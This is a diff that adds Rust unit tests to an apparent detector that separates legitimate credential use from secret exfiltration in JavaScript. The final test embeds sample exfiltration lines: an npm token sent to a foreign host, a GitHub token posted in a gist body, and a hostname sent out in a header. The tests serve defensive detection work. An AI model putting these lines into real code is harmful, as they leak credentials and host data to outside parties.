@@ -1232,3 +1232,72 @@ fn a_geo_cookie_is_region_data() {
     );
     assert!(g.is_empty(), "{g:#?}");
 }
+
+// ------------------------------------------------------------------------------ credentials
+
+#[test]
+fn a_token_in_the_authorization_header_of_its_service_is_use_not_exfiltration() {
+    let f = run(r#"fetch("https://api.github.com/user", {
+          headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}`, Accept: "application/json" } });"#);
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+    assert_eq!(f.credential_uses.len(), 1, "{:#?}", f.credential_uses);
+    let u = &f.credential_uses[0];
+    assert_eq!(u.host.as_deref(), Some("api.github.com"));
+    assert_eq!(u.secret, "process.env.GITHUB_TOKEN");
+    assert_eq!(u.position, "Authorization header");
+}
+
+#[test]
+fn credentials_for_an_address_the_caller_gives_are_use() {
+    // gemini-cli's shape: a header object filled in, then passed with the caller's URL.
+    let f = run(r#"const https = require("https");
+        function getToken() { return process.env.GITHUB_TOKEN; }
+        function download(url) {
+          const headers = { "User-Agent": "x" };
+          const token = getToken();
+          if (token) { headers["Authorization"] = `token ${token}`; }
+          https.get(url, { headers }, (res) => res.pipe(process.stdout));
+        }
+        module.exports = download;"#);
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+    assert_eq!(f.credential_uses.len(), 1, "{:#?}", f.credential_uses);
+    assert_eq!(f.credential_uses[0].host, None);
+    // The AWS SDK's container credentials: the token is the endpoint's Authorization header.
+    let f = run(r#"const http = require("http");
+        function get(options) { return new Promise((ok) => http.request({ method: "GET", ...options }, ok).end()); }
+        async function fromContainer(opts) {
+          if (process.env.AWS_CONTAINER_AUTHORIZATION_TOKEN) {
+            opts.headers = { ...opts.headers, Authorization: process.env.AWS_CONTAINER_AUTHORIZATION_TOKEN };
+          }
+          return get({ ...opts, timeout: 1000 });
+        }
+        module.exports = fromContainer;"#);
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+    assert_eq!(f.credential_uses.len(), 1, "{:#?}", f.credential_uses);
+    // `headers.set("Authorization", …)`.
+    let f = run(r#"const h = new Headers();
+        h.set("Authorization", "Bearer " + process.env.ANTHROPIC_API_KEY);
+        fetch(process.argv[2], { headers: h });"#);
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+    assert_eq!(f.credential_uses.len(), 1, "{:#?}", f.credential_uses);
+}
+
+#[test]
+fn a_secret_in_a_header_of_a_foreign_host_or_in_a_body_stays_exfiltration() {
+    let f = run(r#"fetch("https://x.robotnowai.top/c", {
+          headers: { Authorization: process.env.NPM_TOKEN } });"#);
+    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
+    assert!(f.flows[0].kinds.contains(DataKind::SecretEnv));
+    assert_eq!(f.flows[0].endpoints, vec!["x.robotnowai.top"]);
+    assert!(f.credential_uses.is_empty());
+    // In the body, even to its own service, a token is data sent.
+    let f = run(r#"fetch("https://api.github.com/gists", { method: "POST",
+          body: JSON.stringify({ files: { t: { content: process.env.GITHUB_TOKEN } } }) });"#);
+    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
+    // A header that is not a credential carries data like any other.
+    let f = run(
+        r#"fetch("https://t.example.com/c", { headers: { "x-host": require("os").hostname() } });"#,
+    );
+    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
+    assert!(f.credential_uses.is_empty());
+}
